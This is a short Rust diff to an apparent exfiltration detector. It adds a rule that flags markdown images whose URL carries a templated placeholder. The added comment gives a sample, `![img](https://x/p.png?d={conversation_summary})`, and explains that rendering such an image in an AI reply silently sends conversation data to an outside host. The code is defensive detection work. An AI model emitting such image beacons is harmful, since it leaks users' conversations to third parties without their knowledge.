@@ -498,7 +498,13 @@ pub(super) fn exfil(c: &Ctx<'_>, h: &mut Hits) {
             // account id (e.g. 'user@example.com')" shows an argument's format: an address
             // offered as an example is no destination. What goes there is looked at only then.
             let directed = moves && (c.directive(s) || c.has(Atom::UserIntent));
-            if !(directed || steers) || c.exemplified(s0) {
+            // `![img](https://x/p.png?d={conversation_summary})`: a markdown image fetches its
+            // URL when the reply is rendered — the placeholder ships the data with no order.
+            let image_beacon = a == Atom::Url
+                && c.text[..s0].ends_with("](")
+                && c.text[..s0].contains("![")
+                && templated(&c.text[s0..e0]);
+            if !(directed || steers || image_beacon) || c.exemplified(s0) {
                 continue;
             }
             let via_tool = c.refs_in(s, RefKind::Call).next().is_some();
